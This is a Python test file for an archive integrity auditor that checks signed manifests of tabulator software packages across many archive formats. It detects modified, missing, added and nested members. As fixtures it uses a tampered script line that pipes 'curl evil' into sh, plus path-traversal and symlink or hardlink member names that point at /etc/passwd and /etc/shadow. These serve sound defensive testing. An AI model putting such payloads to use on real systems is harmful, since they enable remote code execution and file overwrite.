"""End to end: packages made by stock tools (bsdtar, python tarfile/zipfile,
7z), baselined, signed and audited. Every format is audited clean without its
members being read, then rebuilt with one member modified, one removed and
one added; nested archives give member chains; hostile member names are
reported and never used as paths; baseline refuses what it cannot certify.

ArchiveCase and the package builders are shared with test_limits.py."""
import gzip
import hashlib
import io
import json
import lzma
import os
import re
import shutil
import tarfile
import unittest
import uuid
import zipfile

import eialib


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def file_sha256(path):
    with open(path, "rb") as f:
        return sha256(f.read())


def have(tool):
    return shutil.which(tool) is not None


def tar_bytes(members, fmt=tarfile.GNU_FORMAT, mtime=1700000000):
    """members: list of (name, data bytes | None for a dir, optional dict of
    TarInfo attributes). Returns an uncompressed tar, deterministic."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt, encoding="utf-8",
                      errors="surrogateescape") as t:
        for m in members:
            name, data = m[0], m[1]
            ti = tarfile.TarInfo(name)
            ti.mtime = mtime
            ti.mode = 0o644
            if data is None:
                ti.type = tarfile.DIRTYPE
                ti.mode = 0o755
            else:
                ti.size = len(data)
            for k, v in (m[2] if len(m) > 2 else {}).items():
                setattr(ti, k, v)
            t.addfile(ti, io.BytesIO(data) if data else None)
    return out.getvalue()


def gz(data, mtime=1700000000, level=9):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=mtime, compresslevel=level) as g:
        g.write(data)
    return out.getvalue()


def zip_bytes(files, level=zipfile.ZIP_DEFLATED, compresslevel=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level, compresslevel=compresslevel) as z:
        for name in sorted(files):
            zi = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            zi.external_attr = 0o100644 << 16
            zi.compress_type = level
            z.writestr(zi, files[name])
    return out.getvalue()


# Formats built from a staging directory by a stock tool. For "ar" the
# members are flat (ar has no directories).
FORMATS = {
    "tar.gz": "bsdtar -czf {dest} -C {stage} .",
    "tar.xz": "bsdtar -cJf {dest} -C {stage} .",
    "zip": None,  # python zipfile
    "cpio": "bsdtar --format=newc -cf {dest} -C {stage} .",
    "odc.cpio": "bsdtar --format=cpio -cf {dest} -C {stage} .",
    "iso": "bsdtar --format=iso9660 -cf {dest} -C {stage} .",
    "7z": "cd {stage} && 7z a -bd -mtc=off {dest} {top} >/dev/null",
    "ar": "cd {stage} && bsdtar --format=ar -cf {dest} {top}",
}


class ArchiveCase(eialib.EiaTest):
    """One signing key, threshold 1; helpers to baseline, sign and audit."""

    def setUp(self):
        super().setUp()
        self.root = self.path("root")
        os.makedirs(self.root)
        self.key, self.keyid = self.keygen("k")
        self.trust = self.trust_store([{"prefix": self.key, "id": self.keyid}])

    def baseline(self, *extra, root=None, code=0):
        m = self.path("m-%s.yaml" % uuid.uuid4().hex[:8])
        res = self.eia("baseline", "--root", root or self.root, "-o", m, "--name", "pkg",
                       "--serial", 1, *extra)
        self.assertExit(res, code)
        if code == 0:
            rc, out, err = self.eia("sign", "-k", self.key + ".key", m)
            self.assertEqual(rc, 0, err)
        return m, res

    def audit(self, m, *extra, code=None, root=None):
        rc, out, err = self.eia("audit", "--manifest", m, "--trust", self.trust, "--root",
                                root or self.root, "--json", *extra)
        if code is not None:
            self.assertEqual(rc, code, "stdout=%s stderr=%s" % (out[:3000], err))
        self.assertIn(rc, (0, 1), err)
        self.assertEqual(err.strip(), "", err)
        return rc, json.loads(out)

    @staticmethod
    def kinds(rep):
        return sorted((f["kind"], f["path"], tuple(f["member"])) for f in rep["findings"])

    @staticmethod
    def find(rep, kind, path, member=()):
        got = [f for f in rep["findings"]
               if f["kind"] == kind and f["path"] == path and tuple(f["member"]) == tuple(member)]
        assert len(got) == 1, (kind, path, member, rep["findings"])
        return got[0]

    @staticmethod
    def entry(rep, path):
        got = [e for e in rep["entries"] if e["path"] == path]
        assert len(got) == 1, (path, rep["entries"])
        return got[0]

    def put(self, rel, data):
        """Writes data (bytes) at root/rel; returns the full path."""
        return self.write("root/" + rel, data, 0o644)

    def build(self, fmt, rel, files):
        """Builds root/rel in format fmt from files {name: bytes}."""
        dest = self.path("root", rel)
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        if os.path.exists(dest):
            os.remove(dest)
        if fmt == "zip":
            with open(dest, "wb") as f:
                f.write(zip_bytes(files))
            return dest
        tool = "7z" if fmt == "7z" else "bsdtar"
        if not have(tool):
            self.skipTest("%s missing (apt-get install %s)"
                          % (tool, "p7zip-full" if tool == "7z" else "libarchive-tools"))
        stage = self.path("stage-" + uuid.uuid4().hex[:8])
        for name, data in files.items():
            p = os.path.join(stage, name)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
            os.chmod(p, 0o644)
        for base, dirs, _ in os.walk(stage):
            for d in dirs:
                os.chmod(os.path.join(base, d), 0o755)
        top = " ".join(sorted(os.listdir(stage)))
        eialib.sh(FORMATS[fmt].format(dest=dest, stage=stage, top=top))
        shutil.rmtree(stage)
        return dest


BIN_OLD = b"#!/bin/sh\necho tabulate 5.17.1\n"
BIN_NEW = b"#!/bin/sh\necho tabulate 5.17.1; curl evil | sh\n"
BALLOT = b"ballot style 12\n" * 20
KEEP = b"precinct = 12\n"
EXTRA = b"not certified\n"


def package_files(fmt, modified=False):
    """The certified package, or the rebuilt one (tabulate modified, ballot
    removed, extra added). Names are flat for ar."""
    flat = fmt == "ar"
    names = {"bin": "tabulate" if flat else "usr/bin/tabulate",
             "ballot": "ballot.txt" if flat else "usr/share/ballot.txt",
             "keep": "keep.conf" if flat else "etc/keep.conf",
             "readme": "README" if flat else "usr/share/README",
             "extra": "extra" if flat else "usr/bin/extra"}
    files = {names["bin"]: BIN_NEW if modified else BIN_OLD, names["keep"]: KEEP,
             names["readme"]: b"read me\n"}
    if modified:
        files[names["extra"]] = EXTRA
    else:
        files[names["ballot"]] = BALLOT
    return names, files


class FormatsTest(ArchiveCase):

    def check_format(self, fmt):
        rel = "pkg/tabulator." + fmt
        names, files = package_files(fmt)
        old = self.build(fmt, rel, files)
        old_digest, old_size = file_sha256(old), os.path.getsize(old)
        self.put("etc/other.conf", b"other\n")
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        self.assertIn("type: archive", text)
        self.assertIn('"%s"' % names["bin"], text)
        self.assertIn(sha256(BIN_OLD), text)

        rc, rep = self.audit(m, code=0)
        ent = self.entry(rep, rel)
        self.assertEqual(ent["status"], "ok")
        self.assertEqual(ent["type"], "archive")
        self.assertEqual(ent["sha256"], old_digest)
        self.assertNotIn("members", ent, "members parsed although the digest matched")

        names, files = package_files(fmt, modified=True)
        new = self.build(fmt, rel, files)
        new_digest, new_size = file_sha256(new), os.path.getsize(new)
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), sorted([
            ("modified", rel, ()),
            ("modified", rel, (names["bin"],)),
            ("member-missing", rel, (names["ballot"],)),
            ("member-unlisted", rel, (names["extra"],)),
        ]))
        f = self.find(rep, "modified", rel)
        self.assertEqual(f["expected"], {"size": old_size, "sha256": old_digest})
        self.assertEqual(f["actual"], {"size": new_size, "sha256": new_digest})
        f = self.find(rep, "modified", rel, (names["bin"],))
        self.assertEqual(f["expected"]["sha256"], sha256(BIN_OLD))
        self.assertEqual(f["actual"]["sha256"], sha256(BIN_NEW))
        self.assertEqual(f["expected"]["size"], len(BIN_OLD))
        self.assertEqual(f["actual"]["size"], len(BIN_NEW))
        self.assertIsNone(f["region"])
        self.assertIsNone(f["chunk"])
        f = self.find(rep, "member-missing", rel, (names["ballot"],))
        self.assertEqual(f["expected"]["sha256"], sha256(BALLOT))
        f = self.find(rep, "member-unlisted", rel, (names["extra"],))
        self.assertEqual(f["actual"]["sha256"], sha256(EXTRA))
        ent = self.entry(rep, rel)
        self.assertEqual(ent["status"], "drift")
        self.assertEqual(ent["sha256"], new_digest)
        by = {r["path"]: r for r in ent["members"]}
        self.assertEqual(by[names["keep"]]["sha256"], sha256(KEEP))
        self.assertEqual(by[names["keep"]]["status"], "ok")
        self.assertEqual(by[names["bin"]]["status"], "drift")
        self.assertEqual(self.entry(rep, "etc/other.conf")["status"], "ok")

    def test_tar_gz(self):
        self.check_format("tar.gz")

    def test_tar_xz(self):
        self.check_format("tar.xz")

    def test_zip(self):
        self.check_format("zip")

    def test_cpio_newc(self):
        self.check_format("cpio")

    def test_cpio_odc(self):
        self.check_format("odc.cpio")

    def test_iso9660(self):
        self.check_format("iso")

    def test_7z(self):
        self.check_format("7z")

    def test_ar(self):
        self.check_format("ar")

    def test_member_names_are_normalised(self):
        # bsdtar -C stage . stores "./usr/bin/tabulate" and a "." entry; the
        # manifest names members without "./" and the "." entry is not one
        _, files = package_files("tar.gz")
        self.build("tar.gz", "p.tar.gz", files)
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        self.assertIn('{path: "usr/bin/tabulate", type: file', text)
        self.assertNotIn('"./', text)
        self.assertNotIn('{path: ".",', text)

    def test_plain_gzip_file_is_a_file(self):
        # a .gz of a single file has gzip magic but is no archive: certified as a file
        self.put("share/notes.txt.gz", gz(b"release notes\n"))
        self.put("share/lzma-looking", b"\x5d\x00\x00 this is text")
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        self.assertIn('{path: "share/notes.txt.gz", type: file', text)
        self.assertIn('{path: "share/lzma-looking", type: file', text)
        self.audit(m, code=0)

    def test_archive_replaced_by_garbage_is_malformed(self):
        _, files = package_files("tar.gz")
        self.build("tar.gz", "p.tar.gz", files)
        m, _ = self.baseline()
        self.put("p.tar.gz", os.urandom(5000))
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), [("malformed", "p.tar.gz", ()),
                                           ("modified", "p.tar.gz", ())])

    def test_no_members_option(self):
        _, files = package_files("zip")
        self.build("zip", "p.zip", files)
        m, _ = self.baseline("--no-members")
        with open(m) as f:
            text = f.read()
        self.assertNotIn("members:", text)
        self.audit(m, code=0)


class SameMembersTest(ArchiveCase):
    """Different bytes, identical members: one `modified` on the archive."""

    def test_regzipped_tar(self):
        tar = tar_bytes([("usr", None), ("usr/bin", None), ("usr/bin/tabulate", BIN_OLD),
                         ("etc/keep.conf", KEEP)])
        self.put("p.tar.gz", gz(tar, mtime=1700000000, level=9))
        m, _ = self.baseline()
        self.put("p.tar.gz", gz(tar, mtime=1800000000, level=1))
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), [("modified", "p.tar.gz", ())])
        ent = self.entry(rep, "p.tar.gz")
        self.assertEqual({r["status"] for r in ent["members"]}, {"ok"})
        self.assertEqual(len(ent["members"]), 4)

    def test_rezipped_with_another_level(self):
        files = {"bin/x": b"x" * 5000, "etc/y": KEEP}
        self.put("p.zip", zip_bytes(files, compresslevel=9))
        m, _ = self.baseline()
        self.put("p.zip", zip_bytes(files, zipfile.ZIP_STORED))
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), [("modified", "p.zip", ())])

    def test_tar_recompressed_as_xz(self):
        tar = tar_bytes([("bin/x", BIN_OLD)])
        self.put("p.tar", gz(tar))
        m, _ = self.baseline()
        self.put("p.tar", lzma.compress(tar))
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), [("modified", "p.tar", ())])


class NestedTest(ArchiveCase):

    def test_zip_inside_tar_gz(self):
        inner = zip_bytes({"bin/x": b"certified x\n", "bin/y": b"y\n"})
        self.put("pkg/outer.tar.gz", gz(tar_bytes([("inner/b.zip", inner),
                                                   ("README", b"r\n")])))
        m, _ = self.baseline()
        self.audit(m, code=0)
        inner2 = zip_bytes({"bin/x": b"tampered x\n", "bin/y": b"y\n"})
        self.put("pkg/outer.tar.gz", gz(tar_bytes([("inner/b.zip", inner2),
                                                   ("README", b"r\n")])))
        rc, rep = self.audit(m, code=1)
        p = "pkg/outer.tar.gz"
        self.assertEqual(self.kinds(rep), sorted([
            ("modified", p, ()), ("modified", p, ("inner/b.zip",)),
            ("modified", p, ("inner/b.zip", "bin/x"))]))
        f = self.find(rep, "modified", p, ("inner/b.zip", "bin/x"))
        self.assertEqual(f["expected"]["sha256"], sha256(b"certified x\n"))
        self.assertEqual(f["actual"]["sha256"], sha256(b"tampered x\n"))
        f = self.find(rep, "modified", p, ("inner/b.zip",))
        self.assertEqual(f["expected"]["sha256"], sha256(inner))
        self.assertEqual(f["actual"]["sha256"], sha256(inner2))
        ent = self.entry(rep, p)
        nested = [r for r in ent["members"] if r["path"] == "inner/b.zip"][0]
        self.assertEqual({r["path"]: r["status"] for r in nested["members"]},
                         {"bin/x": "drift", "bin/y": "ok"})

    def three_levels(self, x):
        l3 = gz(tar_bytes([("bin/x", x)]))
        l2 = zip_bytes({"deep/core.tar.gz": l3})
        l1 = tar_bytes([("mid/l2.zip", l2)])
        return gz(tar_bytes([("top/l1.tar", l1)]))

    def test_three_levels_deep(self):
        self.put("outer.tar.gz", self.three_levels(b"certified\n"))
        m, _ = self.baseline()
        self.put("outer.tar.gz", self.three_levels(b"tampered\n"))
        rc, rep = self.audit(m, code=1)
        chain = ("top/l1.tar", "mid/l2.zip", "deep/core.tar.gz", "bin/x")
        want = [("modified", "outer.tar.gz", chain[:i]) for i in range(len(chain) + 1)]
        self.assertEqual(self.kinds(rep), sorted(want))
        f = self.find(rep, "modified", "outer.tar.gz", chain)
        self.assertEqual(f["actual"]["sha256"], sha256(b"tampered\n"))

    @unittest.skipUnless(have("7z"), "7z (p7zip-full) missing")
    def test_7z_inside_tar(self):
        # 7z needs to seek: a nested one is read from memory, not skipped
        def pkg(x):
            stage = self.path("s7")
            shutil.rmtree(stage, ignore_errors=True)
            os.makedirs(os.path.join(stage, "bin"))
            with open(os.path.join(stage, "bin", "x"), "wb") as f:
                f.write(x)
            eialib.sh("cd %s && 7z a -bd -mtc=off in.7z bin >/dev/null" % stage)
            with open(os.path.join(stage, "in.7z"), "rb") as f:
                return gz(tar_bytes([("inner/in.7z", f.read())]))
        self.put("p.tar.gz", pkg(b"certified\n"))
        m, _ = self.baseline()
        with open(m) as f:
            self.assertIn('"bin/x"', f.read())
        self.put("p.tar.gz", pkg(b"tampered\n"))
        rc, rep = self.audit(m, code=1)
        self.assertIn(("modified", "p.tar.gz", ("inner/in.7z", "bin/x")), self.kinds(rep))

    def test_baseline_refuses_unreadable_nested_archive(self):
        inner = zip_bytes({"bin/x": os.urandom(3000)})
        i = len(inner) // 3
        bad = inner[:i] + bytes(b ^ 0x55 for b in inner[i:i + 64]) + inner[i + 64:]
        self.put("p.tar.gz", gz(tar_bytes([("in.zip", bad)])))
        m, res = self.baseline(code=2)
        self.assertIn("in.zip", res[2])

    @unittest.skipUnless(have("bsdtar"), "bsdtar missing")
    def test_deb_like_ar_package(self):
        def deb(x):
            control = gz(tar_bytes([("./control", b"Package: tabulator\n")]))
            data = lzma.compress(tar_bytes([("./usr", None), ("./usr/bin", None),
                                            ("./usr/bin/tabulate", x)]))
            stage = self.path("deb")
            shutil.rmtree(stage, ignore_errors=True)
            os.makedirs(stage)
            for n, d in (("debian-binary", b"2.0\n"), ("control.tar.gz", control),
                         ("data.tar.xz", data)):
                with open(os.path.join(stage, n), "wb") as f:
                    f.write(d)
            out = self.path("root", "tabulator_5.17_amd64.deb")
            if os.path.exists(out):
                os.remove(out)
            eialib.sh("cd %s && bsdtar --format=ar -cf %s debian-binary control.tar.gz "
                      "data.tar.xz" % (stage, out))
        deb(BIN_OLD)
        m, _ = self.baseline()
        deb(BIN_NEW)
        rc, rep = self.audit(m, code=1)
        p = "tabulator_5.17_amd64.deb"
        self.assertEqual(self.kinds(rep), sorted([
            ("modified", p, ()), ("modified", p, ("data.tar.xz",)),
            ("modified", p, ("data.tar.xz", "usr/bin/tabulate"))]))


class HostileNamesTest(ArchiveCase):
    """Member names are data: reported, never used as paths."""

    def setUp(self):
        super().setUp()
        self.probe = "eia-probe-" + uuid.uuid4().hex
        self.put("p.tar.gz", gz(tar_bytes([("ok", b"certified\n")])))
        self.put("other.conf", b"other\n")
        self.manifest, _ = self.baseline()

    def tree_state(self):
        state = []
        for base, dirs, files in os.walk(self.tmp):
            for n in sorted(dirs + files):
                p = os.path.join(base, n)
                st = os.lstat(p)
                state.append((p, st.st_size, st.st_mtime_ns))
        return sorted(state)

    def check_hostile(self, members, bad_member, why, extra_kinds=()):
        self.put("p.tar.gz", gz(tar_bytes([("ok", b"certified\n")] + members)))
        self.put("other.conf", b"tampered\n")
        before = self.tree_state()
        rc, rep = self.audit(self.manifest, code=1)
        self.assertEqual(self.tree_state(), before, "the audit wrote something")
        self.assertFalse(os.path.exists("/tmp/" + self.probe))
        self.assertFalse(os.path.exists(self.path(self.probe)))
        f = [f for f in rep["findings"] if f["kind"] == "malformed"]
        self.assertEqual(len(f), 1, rep["findings"])
        self.assertEqual(f[0]["path"], "p.tar.gz")
        self.assertEqual(f[0]["member"][-1:], [bad_member] if bad_member else [])
        self.assertIn(why, f[0]["message"])
        kinds = {k for k, p, _ in self.kinds(rep)}
        self.assertIn("modified", kinds)
        # the rest of the audit was still done
        self.find(rep, "modified", "other.conf")
        for k in extra_kinds:
            self.assertIn(k, kinds)
        # baseline refuses to certify it: exit 2, one line
        os.makedirs(self.path("b"), exist_ok=True)
        shutil.copy(self.path("root", "p.tar.gz"), self.path("b", "p.tar.gz"))
        self.baseline(root=self.path("b"), code=2)
        return rep

    def test_absolute_name(self):
        self.check_hostile([("/tmp/%s/x" % self.probe, b"evil")],
                           "/tmp/%s/x" % self.probe, "relative")

    def test_dotdot_name(self):
        self.check_hostile([("../%s" % self.probe, b"evil")], "../%s" % self.probe, "..")

    def test_dotdot_inside_name(self):
        self.check_hostile([("a/../../%s" % self.probe, b"evil")],
                           "a/../../%s" % self.probe, "..")

    def test_path_through_symlink_member(self):
        self.check_hostile([("lnk", b"", {"type": tarfile.SYMTYPE, "linkname": "/etc"}),
                            ("lnk/passwd", b"evil")], "lnk/passwd", "symlink member 'lnk'")

    def test_hardlink_outside(self):
        self.check_hostile([("h", b"", {"type": tarfile.LNKTYPE,
                                        "linkname": "../../etc/shadow"})], "h", "hardlink")

    def test_hardlink_to_absent_member(self):
        self.check_hostile([("h", b"", {"type": tarfile.LNKTYPE, "linkname": "nope"})],
                           "h", "hardlink")

    def test_duplicate_names(self):
        rep = self.check_hostile([("dup", b"first"), ("dup", b"second")], "dup", "duplicate")

    def test_name_longer_than_the_record(self):
        long = "d/" * 20000 + "x" * 40000  # 80,000 bytes in a pax header
        self.put("p.tar.gz", gz(tar_bytes([("ok", b"certified\n"), (long, b"x")],
                                          fmt=tarfile.PAX_FORMAT)))
        rc, rep = self.audit(self.manifest, code=1)
        f = [f for f in rep["findings"] if f["kind"] == "malformed"]
        self.assertEqual(len(f), 1, [(x["kind"], x["message"]) for x in rep["findings"]])
        self.assertIn("longer than", f[0]["message"])

    def test_non_utf8_name(self):
        name = b"bad\xff\xfename".decode("utf-8", "surrogateescape")
        self.put("p.tar.gz", gz(tar_bytes([("ok", b"certified\n"), (name, b"x")])))
        rc, rep = self.audit(self.manifest, code=1)
        f = [f for f in rep["findings"] if f["kind"] == "malformed"]
        self.assertEqual(len(f), 1)
        self.assertIn("UTF-8", f[0]["message"])
        self.assertEqual([bytes.fromhex(h) for h in f[0]["member_hex"]], [b"bad\xff\xfename"])
        ent = self.entry(rep, "p.tar.gz")
        rec = [r for r in ent["members"] if r["path"].startswith("bad")][0]
        self.assertEqual(bytes.fromhex(rec["path_hex"]), b"bad\xff\xfename")
        os.makedirs(self.path("b"))
        shutil.copy(self.path("root", "p.tar.gz"), self.path("b", "p.tar.gz"))
        self.baseline(root=self.path("b"), code=2)

    def test_symlink_member_to_absolute_target_is_data(self):
        # a symlink member is certified with its target and compared, not followed
        tgt = {"type": tarfile.SYMTYPE, "linkname": "/usr/lib/libvote.so.5"}
        self.put("q.tar.gz", gz(tar_bytes([("lib/libvote.so", b"", tgt)])))
        m, _ = self.baseline()
        with open(m) as f:
            self.assertIn('target: "/usr/lib/libvote.so.5"', f.read())
        self.audit(m, code=0)
        tgt["linkname"] = "/tmp/evil.so"
        self.put("q.tar.gz", gz(tar_bytes([("lib/libvote.so", b"", tgt)])))
        rc, rep = self.audit(m, code=1)
        self.find(rep, "target-changed", "q.tar.gz", ("lib/libvote.so",))


class HardlinkTest(ArchiveCase):
    """Hardlinks to an earlier file are files with the linked content."""

    def test_tar_hardlink_is_certified_and_compared(self):
        def pkg(data, link="bin/tabulate"):
            return gz(tar_bytes([("bin/tabulate", data),
                                 ("bin/tab", b"", {"type": tarfile.LNKTYPE, "linkname": link})]))
        self.put("p.tar.gz", pkg(BIN_OLD))
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        self.assertIn('{path: "bin/tab", type: file, size: %d, sha256: %s'
                      % (len(BIN_OLD), sha256(BIN_OLD)), text)
        self.audit(m, code=0)
        self.put("p.tar.gz", pkg(BIN_NEW))
        rc, rep = self.audit(m, code=1)
        self.assertEqual(self.kinds(rep), sorted([
            ("modified", "p.tar.gz", ()), ("modified", "p.tar.gz", ("bin/tab",)),
            ("modified", "p.tar.gz", ("bin/tabulate",))]))

    @unittest.skipUnless(have("bsdtar"), "bsdtar missing")
    def test_cpio_newc_hardlinks(self):
        # newc stores the data on the last link; every link gets it
        stage = self.path("s")
        os.makedirs(os.path.join(stage, "d"))
        with open(os.path.join(stage, "d", "one"), "wb") as f:
            f.write(BIN_OLD)
        os.link(os.path.join(stage, "d", "one"), os.path.join(stage, "d", "two"))
        eialib.sh("bsdtar --format=newc -cf %s -C %s d" % (self.path("root", "i.cpio"), stage))
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        for n in ("d/one", "d/two"):
            self.assertIn('{path: "%s", type: file, size: %d, sha256: %s'
                          % (n, len(BIN_OLD), sha256(BIN_OLD)), text)
        self.audit(m, code=0)


class ReadAheadTest(ArchiveCase):
    """With --jobs 2 or more, archives are hashed (and, when they differ, their
    members read) on the walk thread while the manifest is still parsing
    (audit/scan/ahead.c). The report must be the one --jobs 1 gives, which
    reads everything after the parse, whatever the archives hold."""

    def make_packages(self):
        for i in range(6):
            names, files = package_files("tar.gz")
            self.put("pkg/t%d.tar.gz" % i, gz(tar_bytes(sorted(files.items()))))
            self.put("pkg/z%d.zip" % i, zip_bytes(files))
        self.put("pkg/readme.txt", b"packages\n")
        # entries after the archives keep the parse going once the walk is
        # done, so that the thread takes archive jobs (test_ahead.c shows the
        # mechanism itself deterministically)
        for i in range(3000):
            self.put("zpad/%02d/f%04d" % (i % 30, i), b"pad %d\n" % i)

    def drift(self):
        _, new = package_files("tar.gz", modified=True)
        _, old = package_files("tar.gz")
        self.put("pkg/t0.tar.gz", gz(tar_bytes(sorted(new.items()))))   # members differ
        self.put("pkg/t1.tar.gz", gz(tar_bytes(sorted(old.items())), level=1))  # same members
        self.put("pkg/z2.zip", zip_bytes(new, compresslevel=1))
        self.put("pkg/z3.zip", b"PK\x03\x04 not really a zip any more" * 10)  # malformed
        os.remove(self.path("root", "pkg/t4.tar.gz"))                     # missing
        os.makedirs(self.path("root", "pkg/t4.tar.gz"))                   # ...a directory
        os.remove(self.path("root", "pkg/z4.zip"))
        os.symlink("z5.zip", self.path("root", "pkg/z4.zip"))             # a symlink

    def reports(self, m, code):
        out = []
        for jobs in ("1", "2", "4"):
            rc, rep = self.audit(m, "--jobs", jobs, code=code)
            rep.pop("started")
            rep.pop("finished")
            out.append(rep)
        return out

    def test_clean_archives_same_report(self):
        self.make_packages()
        m, _ = self.baseline()
        r1, r2, r4 = self.reports(m, 0)
        self.assertEqual(r1, r2)
        self.assertEqual(r1, r4)
        # pkg, 12 archives, readme; zpad, 30 folders, 3000 files
        self.assertEqual(r1["summary"]["entries"], 14 + 31 + 3000)

    def test_drift_same_report(self):
        self.make_packages()
        m, _ = self.baseline()
        self.drift()
        r1, r2, r4 = self.reports(m, 1)
        self.assertEqual(r1, r2)
        self.assertEqual(r1, r4)
        kinds = self.kinds(r1)
        self.assertIn(("modified", "pkg/t0.tar.gz", ("usr/bin/tabulate",)), kinds)
        self.assertIn(("member-missing", "pkg/t0.tar.gz", ("usr/share/ballot.txt",)), kinds)
        self.assertIn(("member-unlisted", "pkg/t0.tar.gz", ("usr/bin/extra",)), kinds)
        self.assertIn(("modified", "pkg/t1.tar.gz", ()), kinds)
        self.assertNotIn(("modified", "pkg/t1.tar.gz", ("usr/bin/tabulate",)), kinds)
        self.assertIn(("modified", "pkg/z2.zip", ("usr/bin/tabulate",)), kinds)
        self.assertIn(("type-changed", "pkg/t4.tar.gz", ()), kinds)
        self.assertIn(("type-changed", "pkg/z4.zip", ()), kinds)
        z3 = [k for k in kinds if k[1] == "pkg/z3.zip"]
        self.assertIn(("modified", "pkg/z3.zip", ()), z3)
        self.assertTrue(any(k[0] in ("malformed", "unreadable") for k in z3), z3)
        for path in ("pkg/t2.tar.gz", "pkg/t3.tar.gz", "pkg/z0.zip", "pkg/z5.zip"):
            self.assertEqual(self.entry(r1, path)["status"], "ok", path)

    def test_manifest_invalid_after_archives(self):
        """Archive entries that differ come first and are read ahead; the
        manifest then fails its schema: exit 2, one line, no report."""
        self.make_packages()
        m, _ = self.baseline()
        with open(m) as f:
            text = f.read()
        bad = m + ".bad.yaml"
        # every archive digest wrong (so members would be read), then a bad entry
        body = re.sub(r"(type: archive\n(?:    [^\n]*\n)*?    sha256: )[0-9a-f]{64}",
                      lambda mo: mo.group(1) + "f" * 64, text)
        body += '  - {path: "zz", type: bogus}\n'
        with open(bad, "w") as f:
            f.write(body)
        rc, out, err = self.eia("sign", "-k", self.key + ".key", bad)
        self.assertEqual(rc, 0, err)
        for jobs in ("1", "2"):
            res = self.eia("audit", "--manifest", bad, "--trust", self.trust, "--root",
                           self.root, "--jobs", jobs)
            self.assertExit(res, 2, "unknown type 'bogus'")
            self.assertEqual(len(res[2].strip().splitlines()), 1, res[2])


if __name__ == "__main__":
    eialib.main()
